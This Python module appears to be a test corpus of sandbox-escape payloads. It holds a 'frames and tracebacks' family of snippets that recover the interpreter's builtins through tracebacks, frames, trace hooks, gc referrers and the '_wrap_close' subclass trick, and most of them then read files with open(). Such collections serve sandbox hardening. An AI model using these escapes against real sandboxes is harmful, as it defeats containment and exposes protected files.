"""From an error or the interpreter's hooks to a frame, which knows the built-ins."""

from __future__ import annotations

from scripts.escapes.payloads import family

PAYLOADS = family(
    "frames and tracebacks",
    r"""
## the traceback of a caught exception
try:
    1 / 0
except ZeroDivisionError as exc:
    b = exc.__traceback__.tb_frame.f_builtins
return b['open'](path).read()
## the frame behind the caller
try:
    1 / 0
except ZeroDivisionError as exc:
    f = exc.__traceback__.tb_frame
while f.f_back is not None:
    f = f.f_back
!builtins f.f_builtins
## with getattr and split names
try:
    1 / 0
except ZeroDivisionError as exc:
    t = getattr(exc, '__trace' + 'back__')
b = getattr(getattr(t, 'tb_fr' + 'ame'), 'f_buil' + 'tins')
return b['open'](path).read()
## sys._getframe
import sys
!builtins sys._getframe().f_builtins
## inspect's current frame
import inspect
!builtins inspect.currentframe().f_back.f_builtins
## the frame of a lambda's error
try:
    (lambda: {}['x'])()
except KeyError as exc:
    t = exc.__traceback__.tb_next
!builtins t.tb_frame.f_globals['__builtins__']
## with_traceback takes one along
try:
    1 / 0
except ZeroDivisionError as exc:
    kept = exc.with_traceback(exc.__traceback__)
!builtins kept.__traceback__.tb_frame.f_builtins
## the context of a second exception
try:
    try:
        1 / 0
    except ZeroDivisionError:
        {}['x']
except KeyError as exc:
    t = exc.__context__.__traceback__
!builtins t.tb_frame.f_builtins
## the cause of a second exception
try:
    try:
        1 / 0
    except ZeroDivisionError as first:
        raise ValueError('x') from first
except ValueError as exc:
    t = exc.__cause__.__traceback__
!builtins t.tb_frame.f_builtins
## the third argument of __exit__
class C:
    def __enter__(self):
        return self
    def __exit__(self, kind, exc, tb):
        self.tb = tb
        return True
c = C()
with c:
    1 / 0
!builtins c.tb.tb_frame.f_builtins
## sys.exc_info
import sys
try:
    1 / 0
except ZeroDivisionError:
    t = sys.exc_info()[2]
!builtins t.tb_frame.f_builtins
## the traceback module's walk
import traceback
try:
    1 / 0
except ZeroDivisionError as exc:
    f = list(traceback.walk_tb(exc.__traceback__))[0][0]
!builtins f.f_builtins
## an error in a send, from the frame of batos
try:
    self.not_there_at_all_x(1)
except Exception as exc:
    t = exc.__traceback__
while t.tb_next is not None:
    t = t.tb_next
!builtins t.tb_frame.f_builtins
## an AttributeError's obj
try:
    path.nowhere
except AttributeError as exc:
    return [c for c in exc.obj.__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## the frame's locals are changed
import sys
f = sys._getframe()
f.f_globals['poisoned'] = won
return sys._getframe().f_globals['poisoned']
## a trace function that looks on
import sys
seen = []
def look(frame, event, arg):
    seen.append(frame)
    return look
sys.settrace(look)
(lambda: 1)()
sys.settrace(None)
!builtins seen[0].f_builtins
## a profile function that looks on
import sys
seen = []
def look(frame, event, arg):
    seen.append(frame)
sys.setprofile(look)
len('x')
sys.setprofile(None)
!builtins seen[0].f_builtins
## all threads' frames
import sys
!builtins list(sys._current_frames().values())[0].f_builtins
## an exception group's parts
try:
    raise ExceptionGroup('x', [ValueError('y')])
except* ValueError as group:
    t = group.__traceback__
!builtins t.tb_frame.f_builtins
## excepthook is replaced
import sys
def hook(kind, exc, tb):
    pass
sys.excepthook = hook
return won if sys.excepthook is hook else 0
## a frame found among the referrers
import gc
for each in gc.get_objects():
    if type(each).__name__ == 'frame':
        return each.f_builtins['open'](path).read()
import sys
for each in gc.get_referrers(sys._getframe().f_globals):
    return each.__builtins__['open'](path).read()
## the warnings' registry of a frame
import warnings, sys
warnings.showwarning = lambda *a, **k: None
return won if warnings.showwarning.__name__ == '<lambda>' else 0
## the error's traceback by dict access
try:
    1 / 0
except ZeroDivisionError as exc:
    t = exc.__getattribute__('__traceback__')
!builtins t.tb_frame.f_builtins
## str.format on a caught exception
try:
    1 / 0
except ZeroDivisionError as exc:
    text = '{0.__traceback__.tb_frame.f_globals[__builtins__]}'.format(exc)
return won if 'open' in text or 'builtins' in text else 0
""",
)
